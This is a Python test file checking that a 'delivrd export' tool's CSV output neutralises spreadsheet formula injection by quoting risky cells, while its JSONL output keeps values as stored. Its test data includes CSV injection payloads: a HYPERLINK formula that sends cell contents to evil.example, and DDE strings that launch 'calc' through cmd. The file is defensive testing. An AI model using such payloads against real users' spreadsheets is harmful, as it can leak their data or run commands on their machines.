"""`delivrd export` as CSV is safe to open in a spreadsheet: no pushed text becomes a formula."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

from delivrd.cli.insight import csv_cell
from tests.factories import body, report

ACK = {"result": 0, "errmsg": "OK"}
#: field → text that a spreadsheet would run (or, for `ext`, text that already starts with the quote)
PUSHED = {
    "sid": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "errmsg": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "+cmd|' /C calc'!A0",
    "user_receive_time": "-2+3",
    "ext": "'=1+2",
}


def export(app, *args: str) -> str:
    """What `delivrd export reports` wrote, line ends untranslated (a CR inside a cell stays one)."""
    result = subprocess.run(
        [sys.executable, "-m", "delivrd", "export", "reports", *args, *app.database_args()],
        capture_output=True,
        env=os.environ,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.decode()


def test_csv_quotes_formulas_and_jsonl_keeps_every_value(app, client):
    items = [report(1, **PUSHED), report(2, description="\t=1", mobile="-13800000002"), report(3, description="\r@x")]
    assert client.post("/sms/callback", content=body(items)).json() == ACK

    rows = {row["mobile"]: row for row in csv.DictReader(io.StringIO(export(app), newline=""))}
    first = rows["13800000001"]
    assert {name: first[name] for name in PUSHED} == {name: "'" + text for name, text in PUSHED.items()}
    assert first["phone"] == "+8613800000001" and first["nationcode"] == "86"  # E.164 and digits: as stored
    assert rows["'-13800000002"]["description"] == "'\t=1"
    assert next(row for row in rows.values() if row["sid"].endswith("3"))["description"] == "'\r@x"

    lines = [json.loads(line) for line in export(app, "--format", "jsonl").splitlines()]
    stored = {line["mobile"]: line for line in lines}
    assert {name: stored["13800000001"][name] for name in PUSHED} == PUSHED
    assert stored["-13800000002"]["description"] == "\t=1"


def test_the_rule_cell_by_cell():
    for text in ("=1", "@a", "+a", "-1", "\t1", "\r1", "'x", "+86 138", "+", "+1e5"):
        assert csv_cell(text) == "'" + text
    for value in ("+8613800138000", "86", "DELIVRD", "", "a=b", None, -5, 1.5):
        assert csv_cell(value) == value
